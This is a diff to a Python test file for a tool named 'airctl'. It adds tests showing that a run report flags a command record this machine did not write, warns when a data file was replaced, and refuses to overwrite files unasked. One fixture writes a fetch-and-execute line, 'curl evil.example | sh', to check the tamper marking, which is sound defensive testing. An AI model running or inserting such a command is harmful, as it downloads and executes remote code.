@@ -14,7 +14,7 @@ from typing import Any
 import numpy as np
 import pytest
 from small import run_command as command
-from small import settings
+from small import settings, tiny
 
 import airctl
 from airctl.errors import ConfigError, InputFileError
@@ -213,6 +213,61 @@ def test_nothing_of_a_hostile_run_becomes_part_of_the_page(run: Path) -> None:
     known = {name for _, attributes in Elements(plain).found for name in attributes}
     assert {name for _, attributes in page.found for name in attributes} <= known
     assert json.loads(page.scripts[0])["runs"][0]["gallery"][0]["image"] == HOSTILE
+
+
+def test_a_command_that_this_machine_did_not_write_is_marked(run: Path, data: Path, tmp_path: Path) -> None:
+    """One's own is not; a changed one, one without its mark and one of several lines are, and the lines are one."""
+    marked, own = "this machine did not write it", tmp_path / "own"
+    airctl.train(data, own, tiny(), threads=1, command=["airctl", "train", "x\ny"])
+    assert marked not in airctl.report(own).read_text()
+    (own / "command.txt").write_text("airctl train scenes.h5\ncurl evil.example | sh\n")
+    page = airctl.report(own).read_text()
+    assert marked in page
+    assert ["train", "scenes.h5ncurl", "evil.example", "|", "sh"] in commands_of(page)
+    (own / "command.mark").unlink()
+    assert marked in airctl.report(own).read_text()
+
+
+def test_a_data_file_that_was_replaced_is_told(run: Path, data: Path, tmp_path: Path) -> None:
+    """The page shows the evaluation made before, and says so; without one the file there now is evaluated, named."""
+    told: list[str] = []
+    place = tmp_path / "scenes.h5"
+    shutil.copy(data, place)
+    origin = json.loads((run / "data.json").read_text())
+    (run / "data.json").write_text(json.dumps({**origin, "path": str(place)}))
+    airctl.report(run, warn=told.append)
+    assert told == []
+    airctl.generate(place, airctl.SceneSpec(train=4, test=20), "font", force=True, say=lambda message: None)
+    airctl.report(run, warn=told.append)
+    assert len(told) == 1
+    assert "is not the file that" in told[0]
+    assert "made before" in told[0]
+    (run / "eval-test.json").unlink()
+    assert "20 scenes of the test split" in airctl.report(run, warn=told.append).read_text()
+    assert "is not the file that" in told[1]
+
+
+def test_nothing_is_overwritten_unasked_and_no_file_of_a_run_at_all(run: Path, data: Path, tmp_path: Path) -> None:
+    """report -o and preview -o, by default only the page and the figure of the run itself are made again."""
+    mine = tmp_path / "mine"
+    for make in (
+        lambda out, force: airctl.report(run, out=out, force=force),
+        lambda out, force: airctl.draw_run(run, out=out, force=force),
+        lambda out, force: airctl.draw_data(data, out=out, force=force),
+    ):
+        mine.write_text("precious")
+        with pytest.raises(ConfigError, match="exists: say force=True"):
+            make(mine, False)
+        assert mine.read_text() == "precious"
+        assert make(mine, True) == mine
+        assert mine.read_bytes() != b"precious"
+    before = (run / "config.toml").read_bytes()
+    for draw in (airctl.report, airctl.draw_run):
+        with pytest.raises(ConfigError, match="is a file of the run"):
+            draw(run, out=run / "config.toml", force=True)
+        draw(run)
+        draw(run)
+    assert (run / "config.toml").read_bytes() == before
 
 
 def test_the_check_for_hostile_text_can_fail() -> None:
